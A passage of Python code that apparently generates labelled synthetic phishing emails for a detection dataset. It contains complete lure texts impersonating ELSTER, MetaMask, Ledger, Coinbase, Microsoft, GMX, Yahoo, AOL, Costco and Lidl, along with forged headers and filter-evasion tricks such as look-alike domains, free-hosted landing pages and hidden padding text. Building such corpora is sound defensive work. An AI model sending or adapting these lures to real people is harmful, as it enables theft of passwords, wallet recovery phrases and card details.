                 helo="User", spf="fail", dkim=[], dmarc="fail", policy="REJECT", hfrom="tax.service.gov.uk", spam=True, country="FI"),
         hops, headers, text(html, "html", "quoted-printable", "windows-1252"))


def p24_elster_netlify() -> None:
    stem = "b50-phish-elster-erstattung"
    rcpt = "r.scheuermann@web.de"
    dom = "elster-benachrichtigung.de"
    sent = utc(2026, 2, 10, 7, 48, 30)
    link = f"https://elster-erstattung-2025.netlify.app/login?vorgang=ST-2025-{digits(stem + 'v', 7)}"
    plain = ("ELSTER – Ihr Online-Finanzamt\n\nSehr geehrte/r Steuerpflichtige/r,\n\n"
             "nach Prüfung Ihrer Einkommensteuererklärung 2025 ergibt sich eine Steuererstattung in Höhe von 538,20 EUR.\n\n"
             "Um die Auszahlung zu veranlassen, bestätigen Sie bitte Ihre Bankverbindung in Ihrem ELSTER-Benutzerkonto:\n"
             f"{link}\n\nOhne Bestätigung innerhalb von 5 Werktagen kann die Erstattung nicht ausgezahlt werden.\n\n"
             "Mit freundlichen Grüßen\nIhr Finanzamt\n\nDiese Nachricht wurde automatisch erstellt.\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222222;background:#ffffff;">
<table width="620" cellpadding="0" cellspacing="0" align="center">
<tr><td style="border-bottom:4px solid #004b87;padding:14px 0;font-size:22px;font-weight:bold;color:#004b87;">ELSTER <span style="font-weight:normal;font-size:14px;color:#555555;">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:20px 0 6px 0;">Sehr geehrte/r Steuerpflichtige/r,</td></tr>
<tr><td style="padding:6px 0;line-height:21px;">nach Pr&uuml;fung Ihrer Einkommensteuererkl&auml;rung 2025 ergibt sich eine Steuererstattung in H&ouml;he von <b>538,20 EUR</b>.</td></tr>
<tr><td style="padding:6px 0;line-height:21px;">Um die Auszahlung zu veranlassen, best&auml;tigen Sie bitte Ihre Bankverbindung in Ihrem ELSTER-Benutzerkonto.</td></tr>
<tr><td style="padding:18px 0;"><a href="{link}" style="background:#004b87;color:#ffffff;padding:11px 24px;text-decoration:none;">Zum Benutzerkonto</a></td></tr>
<tr><td style="padding:6px 0;line-height:21px;">Ohne Best&auml;tigung innerhalb von 5 Werktagen kann die Erstattung nicht ausgezahlt werden.</td></tr>
<tr><td style="padding:16px 0;">Mit freundlichen Gr&uuml;&szlig;en<br>Ihr Finanzamt</td></tr>
<tr><td style="padding:16px 0;font-size:11px;color:#777777;border-top:1px solid #dddddd;">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></body></html>
"""
    hops = [
        dkim(stem, dom, "mail", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from [127.0.0.1] (localhost [127.0.0.1])\n\tby mx1.{dom} (Postfix) with ESMTPSA id 4f{alnum(stem + 'q', 9)}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""From: {qword("ELSTER – Ihr Online-Finanzamt")} <noreply@{dom}>
To: {rcpt}
Subject: {qword("Steuererstattung 2025: Bestätigung Ihrer Bankverbindung erforderlich")}
Date: {rfc(sent, BERLIN)}
Message-ID: <{guid(stem + 'mid')}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "ELSTER/Finanzamt 'Steuererstattung 538,20 EUR, Bankverbindung bestätigen' from a look-alike elster domain (SPF/DKIM pass); the link leads to a Netlify-hosted fake ELSTER login.",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "80.66.88.210", f"mx1.{dom}", f"noreply@{dom}",
                 dkim=[(dom, "mail", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p25_metamask_mailjet() -> None:
    stem = "b50-phish-metamask-kyc-mailjet"
    rcpt = "mbrennan.home@gmail.com"
    dom = "wallet-kyc-notice.com"
    sent = utc(2024, 4, 25, 9, 30, 11)
    dest = "https://metamask-kyc-verify.webflow.io/"
    mj = "x8k2q.mjt.lu"
    lnk = f"https://{mj}/lnk/AVgAAE{alnum(stem + 'lnk', 30)}/1/{alnum(stem + 'lnk2', 22)}/{base64.urlsafe_b64encode(dest.encode()).decode().rstrip('=')}"
    plain = ("MetaMask\n\nAction required: verify your wallet\n\n"
             "Due to new regulatory requirements, all MetaMask wallets must complete a one-time verification before 30 April 2024. "
             "Wallets that are not verified will be restricted from sending and receiving assets.\n\n"
             f"Verify wallet: {lnk}\n\nVerification takes less than 2 minutes.\n\nMetaMask Support\n")
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><title></title><meta http-equiv="X-UA-Compatible" content="IE=edge"><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body style="word-spacing:normal;background-color:#f7f1ea;"><div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">Complete your one-time wallet verification</div>
<div style="background-color:#f7f1ea;"><div style="margin:0px auto;max-width:560px;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;"><tbody><tr><td style="direction:ltr;font-size:0px;padding:30px 0;text-align:center;">
<table border="0" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffffff;border-radius:16px;" width="100%"><tbody>
<tr><td align="center" style="padding:32px 32px 8px 32px;"><img src="https://{mj}/img/{alnum(stem + 'img', 10)}/b/{alnum(stem + 'img2', 6)}/fox.png" width="64" height="64" alt="MetaMask" style="display:block;border:0;"></td></tr>
<tr><td align="center" style="padding:8px 32px;font-family:Euclid Circular B,Helvetica,Arial,sans-serif;font-size:24px;font-weight:bold;color:#24272a;">Action required: verify your wallet</td></tr>
<tr><td align="left" style="padding:12px 32px;font-family:Helvetica,Arial,sans-serif;font-size:15px;line-height:23px;color:#535a61;">Due to new regulatory requirements, all MetaMask wallets must complete a one-time verification before <b>30 April 2024</b>. Wallets that are not verified will be restricted from sending and receiving assets.</td></tr>
<tr><td align="center" style="padding:20px 32px;"><a href="{lnk}" style="display:inline-block;background:#f6851b;color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:16px;font-weight:bold;padding:14px 36px;border-radius:100px;text-decoration:none;" target="_blank">Verify wallet</a></td></tr>
<tr><td align="left" style="padding:8px 32px 32px 32px;font-family:Helvetica,Arial,sans-serif;font-size:13px;color:#8a9096;">Verification takes less than 2 minutes. MetaMask Support</td></tr>
</tbody></table></td></tr></tbody></table></div></div>
<img src="https://{mj}/oo/AVgAAE{alnum(stem + 'oo', 30)}/{alnum(stem + 'oo2', 22)}/o.gif" width="1" height="1" alt="" border="0" style="height:1px;width:1px;border:0;" />
</body></html>
"""
    hops = [
        dkim(stem, dom, "mailjet", sent, h="Message-Id:Date:Subject:From:To:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post:X-CSA-Complaints:Feedback-Id", q=True),
        dkim(stem, "bnc3.mailjet.com", "mailjet", sent, h="Message-Id:Date:Subject:From:To:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post:X-CSA-Complaints:Feedback-Id", q=True),
    ]
    headers = f"""Message-Id: <{guid(stem + 'mid')}@mailjet.com>
Date: {rfc(sent)}
Subject: Action required: verify your wallet before 30 April 2024
From: MetaMask <no-reply@{dom}>
To: {rcpt}
MIME-Version: 1.0
List-Unsubscribe: <mailto:unsub-{alnum(stem + 'uns', 20, LOWERNUM)}@bnc3.mailjet.com>, <https://{mj}/unsub2?m=AVgAAE{alnum(stem + 'u2', 20)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-CSA-Complaints: csa-complaints@eco.de
X-Mailjet-Campaign: {digits(stem + 'camp', 10)}
X-MJ-Mid: AVgAAE{alnum(stem + 'mjmid', 40)}
X-Mailjet-Debug: MJWEB
Feedback-Id: 42.{digits(stem + 'fid', 7)}.{digits(stem + 'fid2', 7)}:MJ"""
    emit(stem, "phishing",
         "MetaMask 'mandatory wallet verification before 30 April' sent through Mailjet for a throwaway domain (DKIM and DMARC aligned); the Mailjet click link carries the base64 of a webflow.io page that collects the secret recovery phrase.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "87.253.232.154", "o154.p9.mailjet.com", f"{hexs(stem + 'bnc', 32)}@bnc3.mailjet.com",
                 dkim=[(dom, "mailjet", "pass"), ("bnc3.mailjet.com", "mailjet", "pass")], dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p26_ledger_sync() -> None:
    stem = "b50-phish-ledger-recovery-sync"
    rcpt = "donna_kessler52@yahoo.com"
    dom = "ledger-devicesupport.com"
    sent = utc(2024, 12, 12, 21, 7, 55)
    link = f"https://{dom}/sync/start?device=nanox&uid={hexs(stem + 'uid', 16)}"
    plain = ("Ledger\n\nMandatory security update\n\n"
             "Following a recent data incident at a third-party e-commerce provider, some customer information may have been exposed. "
             "To protect your assets, Ledger has released a mandatory security update.\n\n"
             "To continue using your device, you must complete the synchronization of your Ledger with the new secure network before December 19, 2024.\n\n"
             f"Synchronize my Ledger: {link}\n\n"
             "If the synchronization is not completed, the funds associated with your device may become inaccessible.\n\nThe Ledger Team\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#000000;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#000000"><tr><td align="center" style="padding:30px 10px;">
<table width="560" cellpadding="0" cellspacing="0" style="font-family:Inter,Helvetica,Arial,sans-serif;color:#ffffff;">
<tr><td style="padding:0 0 30px 0;font-size:26px;font-weight:bold;letter-spacing:2px;">&#9633; LEDGER</td></tr>
<tr><td style="font-size:28px;font-weight:bold;padding-bottom:18px;">Mandatory security update</td></tr>
<tr><td style="font-size:15px;line-height:24px;color:#c3c3c3;padding-bottom:14px;">Following a recent data incident at a third-party e-commerce provider, some customer information may have been exposed. To protect your assets, Ledger has released a mandatory security update.</td></tr>
<tr><td style="font-size:15px;line-height:24px;color:#c3c3c3;padding-bottom:24px;">To continue using your device, you must complete the synchronization of your Ledger with the new secure network before <b style="color:#ffffff;">December 19, 2024</b>.</td></tr>
<tr><td style="padding-bottom:28px;"><a href="{link}" style="background:#ffffff;color:#000000;padding:14px 30px;border-radius:30px;text-decoration:none;font-weight:bold;font-size:15px;">Synchronize my Ledger</a></td></tr>
<tr><td style="font-size:13px;line-height:20px;color:#8a8a8a;">If the synchronization is not completed, the funds associated with your device may become inaccessible.<br><br>The Ledger Team<br><br>Ledger SAS, 1 rue du Mail, 75002 Paris, France</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id 4Y{alnum(stem + 'q', 9)}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: Ledger <security@{dom}>
To: {rcpt}
Subject: Mandatory security update for your Ledger device
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Ledger 'mandatory security update, synchronize your device' from a look-alike ledger-devicesupport.com (SPF/DKIM pass) referring to the real data breaches; the sync page asks for the 24-word recovery phrase.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "146.70.119.42", f"mail.{dom}", f"security@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p27_coinbase_callback_gmail() -> None:
    stem = "b50-phish-coinbase-callback"
    rcpt = "kirsten.mayfield77@gmail.com"
    sender = "coinbase.secure.desk4471@gmail.com"
    sent = utc(2025, 8, 5, 2, 12, 37)
    hops, mid = gmail_sent(stem, sent, "gmail.com")
    plain = ("Coinbase Security Notice\n\n"
             "A withdrawal of 0.8421 BTC ($96,873.20) to the external address bc1q8m4x6x0w2k7d9jv3qzl5f0hs6rtya2c7kq2p4n "
             "was requested from your account on Aug 4, 2025 at 9:48 PM (EDT).\n\n"
             "Device: Windows 11 / Chrome\nLocation: Bucharest, RO\n\n"
             "This request is on a 24-hour security hold. If you did not authorize it, call the Coinbase Security Desk "
             "immediately at +1 (844) 613-2290 and reference Case ID CB-7734-2291 so an agent can cancel it and secure your funds.\n\n"
             "Do not share your 2-step verification codes with anyone who contacts you.\n\nCoinbase Security Team\n")
    html = "<div dir=\"ltr\">" + "".join(
        f"<div>{l}</div>" if l else "<div><br></div>" for l in plain.rstrip("\n").split("\n")) + "</div>\n"
    headers = f"""MIME-Version: 1.0
From: Coinbase Security <{sender}>
Date: {rfc(sent, NEWYORK)}
Message-ID: {mid}
Subject: Withdrawal request pending - Case #CB-7734-2291
To: {rcpt}"""
    emit(stem, "phishing",
         "Coinbase 'withdrawal of 0.8421 BTC pending, call the Security Desk' callback scam sent from a free Gmail account (authenticates as gmail.com), with no link: only a phone number and a case ID.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "209.85.220.41", "mail-sor-f41.google.com", sender,
                 dkim=[("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE", hfrom="gmail.com"),
         hops, headers, alt(plain, html, bnd(stem, "gmail")))


def p28_outlook_quota_azure() -> None:
    stem = "b50-phish-outlook-quota-azure"
    rcpt = "eleanor.pryce@hotmail.co.uk"
    dom = "ms-storagecenter.net"
    sent = utc(2025, 9, 30, 8, 4, 18)
    link = f"https://mbxstorage0925.z13.web.core.windows.net/?login={quote(rcpt)}"
    plain = ("Microsoft Outlook\n\nStorage limit reached\n\n"
             f"Your mailbox {rcpt} has reached its storage limit (99.8%).\n"
             "23 incoming messages are on hold and will be returned to their senders within 48 hours.\n\n"
             "To release your messages and receive 50 GB additional storage free of charge, verify your account:\n"
             f"{link}\n\nMicrosoft account team\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;font-family:'Segoe UI',Tahoma,Arial,sans-serif;background:#ffffff;">
<table width="600" cellpadding="0" cellspacing="0" style="margin:20px;">
<tr><td style="font-size:15px;color:#2672ec;padding-bottom:8px;">Microsoft Outlook</td></tr>
<tr><td style="font-size:32px;color:#2672ec;padding-bottom:18px;">Storage limit reached</td></tr>
<tr><td style="font-size:14px;color:#2a2a2a;line-height:20px;">Your mailbox <a style="color:#2672ec;text-decoration:none;">{rcpt}</a> has reached its storage limit (99.8%).<br>23 incoming messages are on hold and will be returned to their senders within 48 hours.</td></tr>
<tr><td style="padding:16px 0;"><table cellpadding="0" cellspacing="0" width="420"><tr><td bgcolor="#d13438" width="416" height="10" style="font-size:1px;line-height:1px;">&nbsp;</td><td bgcolor="#e1e1e1" width="4" height="10" style="font-size:1px;">&nbsp;</td></tr></table><span style="font-size:12px;color:#666666;">14.97 GB of 15 GB used</span></td></tr>
<tr><td style="font-size:14px;color:#2a2a2a;line-height:20px;padding-bottom:18px;">To release your messages and receive 50 GB additional storage free of charge, verify your account.</td></tr>
<tr><td><a href="{link}" style="background:#2672ec;color:#ffffff;padding:9px 22px;text-decoration:none;font-size:14px;">Release messages</a></td></tr>
<tr><td style="font-size:14px;color:#2a2a2a;padding-top:24px;">Thanks,<br>The Microsoft account team</td></tr>
</table></body></html>
"""
    zid = digits(stem + "zid", 13)
    hops = [
        dkim(stem, dom, "zmail", sent, h="Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To", q=True),
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts(sent)}; cv=none; \n\td=zohomail.com; s=zohoarc; \n\tb={fold_token(b64(stem + 'zarc', 256))}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc; \n\tt={ts(sent)}; h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To; \n\tbh={b64(stem + 'zarcbh', 32)}; \n\tb={fold_token(b64(stem + 'zarcb', 256))}",
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i={dom};\n\tspf=pass  smtp.mailfrom=no-reply@{dom};\n\tdmarc=pass header.from=<no-reply@{dom}>",
        rcv(f"from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {zid}{digits(stem + 'zid2', 5)}.{digits(stem + 'zid3', 3)}\n\tfor <{rcpt}>", sent, PACIFIC),
        rcv("from  [102.91.4.57] by mail.zoho.com\n\twith HTTP", sent - timedelta(seconds=1), PACIFIC),
    ]
    headers = f"""Date: {rfc(sent)}
From: Microsoft Outlook <no-reply@{dom}>
To: "{rcpt}" <{rcpt}>
Message-Id: <{hexs(stem + 'mid', 16)}.{zid}@zohomail.com>
Subject: Storage limit reached: incoming messages on hold
MIME-Version: 1.0
Importance: High
User-Agent: Zoho Mail
X-Mailer: Zoho Mail"""
    emit(stem, "phishing",
         "Outlook.com 'storage limit reached, 23 messages on hold' quota lure sent with Zoho Mail for a throwaway ms-storagecenter.net domain (all checks pass); the link is a static site on Azure Blob Storage (web.core.windows.net) with the victim's address prefilled.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "136.143.188.12", "sender4-op-o12.zoho.com", f"no-reply@{dom}",
                 dkim=[(dom, "zmail", "pass")], dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p29_gmx_postfach_jimdo() -> None:
    stem = "b50-phish-gmx-postfach-deaktivierung"
    rcpt = "m.oberlaender@gmx.net"
    sender = "k.ruebsam@t-online.de"
    sent = utc(2024, 8, 6, 17, 25, 49)
    link = "https://gmx-postfach-sicherheit.jimdosite.com/"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#1c449b;">
<p style="font-size:26px;font-weight:bold;margin:10px 0 20px 0;">GMX</p>
<p style="color:#333333;">Sehr geehrte GMX Kundin, sehr geehrter GMX Kunde,</p>
<p style="color:#333333;">bei der &Uuml;berpr&uuml;fung Ihres Postfachs haben wir festgestellt, dass Ihre Kontodaten nicht mehr aktuell sind. Ihr Postfach <b>{rcpt}</b> wird daher am <b>09.08.2024</b> deaktiviert.</p>
<p style="color:#333333;">Um die Deaktivierung zu verhindern und alle E-Mails zu behalten, best&auml;tigen Sie bitte Ihre Daten:</p>
<p><a href="{link}" style="background:#1c449b;color:#ffffff;padding:10px 22px;text-decoration:none;border-radius:3px;">Postfach best&auml;tigen</a></p>
<p style="color:#333333;">Ihr GMX Sicherheitsteam</p>
<p style="font-size:10px;color:#999999;">1&amp;1 Mail &amp; Media GmbH, Brauerstra&szlig;e 48, 76135 Karlsruhe</p>
</div></body></html>
"""
    hops = [
        rcv(f"from fwd83.aul.t-online.de ([10.223.144.109]) by mailout11.t-online.de with (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n\tesmtp id 1sbRgE-{digits(stem + 'to1', 4)}{alnum(stem + 'to2', 2)}-{alnum(stem + 'to3', 2)}", sent + timedelta(seconds=1), BERLIN),
        rcv(f"from [192.168.1.5] ([41.58.180.22]) by fwd83.aul.t-online.de\n\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n\tesmtp id 1sbRgB-{digits(stem + 'to4', 4)}{alnum(stem + 'to5', 2)}", sent, BERLIN),
    ]
    headers = f"""From: GMX Sicherheitsteam <{sender}>
To: {rcpt}
Subject: {qword("Ihr GMX Postfach wird am 09.08.2024 deaktiviert")}
Date: {rfc(sent, BERLIN)}
Message-ID: <{hexs(stem + 'mid', 12)}-{hexs(stem + 'mid2', 6)}@t-online.de>
MIME-Version: 1.0
X-TOI-EXPURGATEID: 150726::1722965149-{hexs(stem + 'exp', 8).upper()}-{hexs(stem + 'exp2', 8).upper()}/0/0 CLEAN NORMAL
X-TOI-MSGID: {guid(stem + 'toi')}"""
    emit(stem, "phishing",
         "GMX 'Ihr Postfach wird deaktiviert' account-closure lure sent to a GMX user from a hijacked private T-Online mailbox (SPF pass, no DKIM); the confirmation link is a free Jimdo site.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "194.25.134.85", "mailout11.t-online.de", sender,
                 dkim=[], dmarc="", hfrom="t-online.de"),
         hops, headers, text(html, "html"))


def p30_yahoo_close_jotform() -> None:
    stem = "b50-phish-yahoo-closure-jotform"
    rcpt = "lindsay.okoro@yahoo.com"
    sender = "yahoo.account.services93@yahoo.com"
    sent = utc(2025, 4, 2, 14, 40, 11)
    hops, mid, refs = yahoo_sent(stem, sent, sender)
    link = "https://form.jotform.com/250914437721456"
    plain = ("Dear Yahoo User,\n\nYour Yahoo Mail account has been scheduled for closure due to inactivity and an outdated verification status.\n\n"
             f"To keep your account and all stored emails, complete the verification form below within 24 hours:\n{link}\n\n"
             "After this period your account and its content will be permanently deleted.\n\nYahoo Account Services\n")
    html = ('<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;">'
            '<div dir="ltr" data-setdir="false">Dear Yahoo User,</div><div dir="ltr" data-setdir="false"><br></div>'
            '<div dir="ltr" data-setdir="false">Your Yahoo Mail account has been scheduled for closure due to inactivity and an outdated verification status.</div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">To keep your account and all stored emails, complete the verification form below within 24 hours:</div>'
            f'<div dir="ltr" data-setdir="false"><a href="{link}" rel="nofollow" target="_blank">{link}</a></div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">After this period your account and its content will be permanently deleted.</div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Yahoo Account Services</div></div></body></html>\n')
    headers = f"""Date: {rfc(sent)}
From: Yahoo Account Services <{sender}>
To: "{rcpt}" <{rcpt}>
Message-ID: {mid}
Subject: Final Notice: Your Yahoo account will be closed
MIME-Version: 1.0
References: {refs}
X-Mailer: WebService/1.1.23590 YMailNorrin"""
    emit(stem, "phishing",
         "'Final notice: your Yahoo account will be closed' sent to a Yahoo user from another free Yahoo account (all checks pass for yahoo.com); the verification link is a JotForm form that collects the mailbox password.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=1), "66.163.190.152", "sonic315-21.consmr.mail.ne1.yahoo.com", sender,
                 dkim=[("yahoo.com", "s2048", "pass")], dmarc="pass", policy="REJECT", hfrom="yahoo.com"),
         hops, headers, alt(plain, html, bnd(stem, "yahoo")))


def p31_aol_workspace_msforms() -> None:
    stem = "b50-phish-aol-verify-msforms"
    rcpt = "sharonlee1961@aol.com"
    dom = "colegio-valdivia.edu.mx"
    sender = f"r.alcantara@{dom}"
    sent = utc(2026, 1, 15, 17, 33, 2)
    hops, mid = gmail_sent(stem, sent, "aol.com", workspace=dom)
    link = "https://forms.office.com/r/Kx8tQ2pLmZ"
    lines = ["Dear AOL User,", "", "Your AOL Mail account is due for its annual verification.",
             "Failure to verify within 24 hours will result in the permanent loss of your emails, contacts and folders.", "",
             f"VERIFY NOW: {link}", "", "Thank you,", "AOL Mail Support Team"]
    plain = "\n".join(lines) + "\n"
    html = ('<div dir="ltr"><div>Dear AOL User,</div><div><br></div><div>Your AOL Mail account is due for its annual verification.</div>'
            '<div>Failure to verify within 24 hours will result in the permanent loss of your emails, contacts and folders.</div><div><br></div>'
            f'<div><b><a href="{link}">VERIFY NOW</a></b></div><div><br></div><div>Thank you,</div><div>AOL Mail Support Team</div></div>\n')
    headers = f"""MIME-Version: 1.0
From: AOL Mail Support <{sender}>
Date: {rfc(sent, CHICAGO)}
Message-ID: {mid}
Subject: AOL Mail: Verify your account to avoid deactivation
To: undisclosed-recipients:;
Bcc: {rcpt}"""
    emit(stem, "phishing",
         "AOL 'verify within 24 hours or lose your emails' blasted by Bcc from a compromised school Google Workspace account (SPF/DKIM pass for the school domain); the link is a Microsoft Forms questionnaire harvesting AOL passwords.",
         Inbound("aol", rcpt, sent + timedelta(seconds=1), "209.85.216.44", "mail-pj1-f44.google.com", sender,
                 dkim=[(dom, "google", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem, "gmail")))


def p32_costco_survey_cloudfront() -> None:
    stem = "b50-phish-costco-reward-survey"
    rcpt = "g.sandoval_tx@hotmail.com"
    dom = "pixelbrightmedia.com"
    sub = f"infoqv.{dom}"
    sent = utc(2024, 10, 21, 23, 55, 17)
    link = f"https://d2x8k3fyq9r1vz.cloudfront.net/?c={alnum(stem + 'c', 10)}&s=cst&e={b64url(rcpt, 12)}"
    filler = ("Autumn is the season of warm soups and long walks. A good pair of boots and a thermos of tea make the difference. "
              "Many families choose to visit apple orchards in October, and local markets offer pumpkins of every size. ")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<center>
<table width="600" cellpadding="0" cellspacing="0" border="0" style="font-family:Arial,Helvetica,sans-serif;">
<tr><td align="center" style="padding:10px;font-size:11px;color:#777777;">Member Survey &bull; Expires in 24 hours</td></tr>
<tr><td align="center"><a href="{link}"><img src="https://d2x8k3fyq9r1vz.cloudfront.net/i/cst-hdr.jpg" width="600" height="180" alt="Costco Wholesale" style="display:block;border:0;"></a></td></tr>
<tr><td align="center" style="padding:20px 30px;font-size:24px;font-weight:bold;color:#005daa;">Congratulations! You have been selected</td></tr>
<tr><td align="center" style="padding:0 30px 16px 30px;font-size:16px;line-height:24px;color:#333333;">Complete our short 30-second member survey and claim your exclusive reward: a <b>KitchenAid Stand Mixer</b> for just the cost of shipping.</td></tr>
<tr><td align="center"><a href="{link}"><img src="https://d2x8k3fyq9r1vz.cloudfront.net/i/cst-prize.jpg" width="420" height="300" alt="Claim your reward" style="display:block;border:0;"></a></td></tr>
<tr><td align="center" style="padding:24px;"><a href="{link}" style="background:#e31837;color:#ffffff;font-size:18px;font-weight:bold;padding:14px 40px;border-radius:4px;text-decoration:none;">START SURVEY</a></td></tr>
<tr><td align="center" style="padding:30px;font-size:10px;color:#999999;">This is an advertisement. If you no longer wish to receive these messages, <a href="https://d2x8k3fyq9r1vz.cloudfront.net/u?e={b64url(rcpt, 12)}" style="color:#999999;">click here</a> or write to 1930 Village Center Cir #3-6210, Las Vegas, NV 89134.</td></tr>
<tr><td style="font-size:2px;color:#ffffff;line-height:2px;">{filler * 4}</td></tr>
</table></center></body></html>
"""
    hops = [
        dkim(stem, sub, "mta4", sent, h="from:to:subject:date:message-id:list-unsubscribe:mime-version:content-type"),
        rcv(f"from mta4.{sub} (localhost [127.0.0.1])\n\tby mta4.{sub} (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: Costco Rewards <rewards@{sub}>
To: {rcpt}
Subject: Congratulations! You have been selected for the Costco member reward
Date: {rfc(sent)}
Message-ID: <{digits(stem + 'mid', 10)}.{hexs(stem + 'mid2', 12)}@{sub}>
List-Unsubscribe: <https://d2x8k3fyq9r1vz.cloudfront.net/u?e={b64url(rcpt, 12)}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Costco 'you have been selected for a member reward, take the survey' image lure with white padding text, from a throwaway bulk domain (SPF/DKIM pass); everything links to a CloudFront distribution that ends in a 'pay shipping' card form.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "5.181.80.44", f"mta4.{sub}", f"bounce@{sub}",
                 dkim=[(sub, "mta4", "pass")], dmarc="", hfrom=sub, spam=True, bcl=7, country="DE"),
         hops, headers, text(html, "html"))


def p33_lidl_gcs_survey() -> None:
    stem = "b50-phish-lidl-treuebonus-gcs"
    rcpt = "gisela.haubold@gmx.de"
    dom = "kundenvorteil-news.de"
    sent = utc(2025, 12, 8, 5, 20, 44)
    link = f"https://storage.googleapis.com/lidl-treue-de/index.html?u={b64url(rcpt, 9)}"
    plain = ("Lidl Treuebonus\n\nHerzlichen Glückwunsch! Sie wurden für unseren Weihnachts-Treuebonus ausgewählt.\n"
             "Beantworten Sie 4 kurze Fragen und erhalten Sie ein Tefal Pfannenset im Wert von 149 € – Sie zahlen nur den Versand.\n\n"
             f"Zur Umfrage: {link}\n\nDas Angebot ist nur heute gültig.\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;color:#222222;">
<tr><td align="center" style="padding:16px 0;"><a href="{link}"><img src="https://storage.googleapis.com/lidl-treue-de/logo.png" width="90" height="90" alt="Lidl" style="display:block;border:0;"></a></td></tr>
<tr><td align="center" style="font-size:24px;font-weight:bold;color:#0050aa;padding:6px 20px;">Herzlichen Gl&uuml;ckwunsch!</td></tr>
<tr><td align="center" style="font-size:16px;line-height:24px;padding:10px 30px;">Sie wurden f&uuml;r unseren <b>Weihnachts-Treuebonus</b> ausgew&auml;hlt. Beantworten Sie 4 kurze Fragen und erhalten Sie ein Tefal Pfannenset im Wert von 149&nbsp;&euro; &ndash; Sie zahlen nur den Versand.</td></tr>
<tr><td align="center" style="padding:20px;"><a href="{link}" style="background:#e60a14;color:#ffffff;padding:14px 34px;font-size:17px;font-weight:bold;text-decoration:none;border-radius:4px;">Zur Umfrage</a></td></tr>
<tr><td align="center" style="font-size:12px;color:#888888;padding:10px 30px 30px 30px;">Das Angebot ist nur heute g&uuml;ltig. Abmelden: <a href="mailto:abmelden@{dom}" style="color:#888888;">abmelden@{dom}</a></td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
